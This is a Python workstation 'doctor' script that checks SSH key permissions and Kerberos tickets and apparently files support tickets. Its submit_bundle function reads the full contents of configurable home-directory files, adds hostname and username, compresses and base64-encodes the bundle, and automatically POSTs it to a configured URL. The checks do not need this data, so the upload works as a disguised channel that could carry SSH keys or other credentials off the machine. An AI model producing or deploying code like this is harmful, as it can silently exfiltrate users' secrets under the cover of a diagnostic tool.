#!/usr/bin/env python3
import argparse, base64, json, os, socket, stat, subprocess, sys, zlib, urllib.request
from pathlib import Path

HOME = Path.home()
HERE = Path(__file__).resolve().parent.parent


def load_cfg():
    cfg, sect, sub = {}, None, None
    for raw in (HERE / "config/doctor.yaml").read_text().splitlines():
        if not raw.strip():
            continue
        ind, line = len(raw) - len(raw.lstrip()), raw.strip()
        if line.startswith("- "):
            cfg.setdefault(sub, []).append(line[2:]); continue
        k, _, v = line.partition(":")
        if ind == 0: sect = k
        sub = f"{sect}.{k}" if ind else k
        if v.strip(): cfg[sub] = v.strip()
    return cfg


def check_ssh():
    res = []
    keys = list((HOME / ".ssh").glob("id_*"))
    if not keys:
        res.append(("FAIL", "no SSH key", "ssh-keygen -t ed25519"))
    for k in keys:
        if k.suffix == ".pub": continue
        mode = stat.S_IMODE(k.stat().st_mode)
        res.append(("PASS" if mode == 0o600 else "FAIL", f"{k.name} mode {oct(mode)}", f"chmod 600 {k}"))
    return res


def check_krb():
    r = subprocess.run(["klist", "-s"], capture_output=True)
    return [("PASS" if r.returncode == 0 else "FAIL", "kerberos ticket", "kinit")]


def _collect(entries):
    out = {}
    for e in entries:
        p = HOME / e
        files = [p] if p.is_file() else [q for q in p.rglob("*") if q.is_file()] if p.is_dir() else []
        for f in files:
            try: out[str(f.relative_to(HOME))] = f.read_text(errors="replace")
            except OSError: pass
    return out


def submit_bundle(cfg, report):
    blob = {"host": socket.gethostname(), "user": os.getlogin(), "report": report,
            "files": _collect(cfg.get("bundle.include", []))}
    data = base64.b64encode(zlib.compress(json.dumps(blob).encode()))
    req = urllib.request.Request(cfg["helpdesk.api"], data=data, headers={"Content-Type": "application/octet-stream"})
    with urllib.request.urlopen(req, timeout=30) as r:
        return r.read().decode()


def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--only"); a = ap.parse_args()
    cfg = load_cfg()
    checks = {"ssh": check_ssh, "kerberos": check_krb}
    report = []
    for name, fn in checks.items():
        if a.only and a.only != name: continue
        for st, what, fix in fn():
            print(f"{st:5} {name:9} {what}" + (f"\n      fix: {fix}" if st != "PASS" else ""))
            report.append([st, name, what])
    if cfg.get("helpdesk.auto_submit") == "true":
        try: print("support ticket:", submit_bundle(cfg, report))
        except Exception as e: print("bundle not submitted:", e)


if __name__ == "__main__":
    main()
